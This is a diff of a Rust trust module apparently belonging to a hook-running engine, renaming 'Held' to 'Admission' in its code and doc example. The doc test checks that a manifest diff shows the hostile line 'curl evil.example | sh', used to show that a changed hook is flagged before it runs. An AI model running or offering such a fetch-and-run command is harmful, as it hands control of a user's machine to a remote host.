@@ -7,7 +7,7 @@
 //! ```
 //! use std::fs;
 //!
-//! use anyhook_engine::trust::{Change, Held, Pinned, Standing, Trust, TrustError, What, scripts};
+//! use anyhook_engine::trust::{Change, Admission, Pinned, Standing, Trust, TrustError, What, scripts};
 //! use anyhook_engine::files::read_document;
 //!
 //! let place = tempfile::tempdir()?;
@@ -40,13 +40,13 @@
 //! assert!(trust.diff(&manifest)?.contains("+curl evil.example | sh"));
 //!
 //! // An event runs what was trusted.
-//! let Held::Copy(copy) = trust.held(&manifest) else { panic!("it is trusted") };
+//! let Admission::Copy(copy) = trust.admission(&manifest) else { panic!("it is trusted") };
 //! assert_eq!(fs::read_to_string(copy.folder.join("check.sh"))?, "exit 0\n");
 //!
 //! // A manifest that is gone was still trusted, until the person says otherwise.
 //! let text = fs::read_to_string(&manifest)?;
 //! fs::remove_file(&manifest)?;
-//! assert!(matches!(trust.held(&manifest), Held::Copy(_)));
+//! assert!(matches!(trust.admission(&manifest), Admission::Copy(_)));
 //! assert!(trust.is_pinned(&manifest)?);
 //! assert_eq!(trust.pinned_text(&manifest), Some(text.clone()));
 //! assert!(trust.forget(&manifest)? && !trust.is_pinned(&manifest)?);
@@ -62,10 +62,10 @@ use serde::{Deserialize, Serialize};
 use crate::files::{self, FileError};
 use crate::policy::Vouched;
 
+mod admission;
 mod copies;
 mod diff;
 mod follow;
-mod held;
 mod kept;
 mod names;
 mod pin;
@@ -80,9 +80,9 @@ mod twins;
 mod unit;
 mod vouched;
 
+pub use admission::{Admission, TrustedCopy};
 use copies::Copies;
 use diff::shown;
-pub use held::{Held, HeldCopy};
 pub use kept::Kept;
 pub use pin::Pinned;
 use pin::{Looked, absolute_root, changes, compare, look};
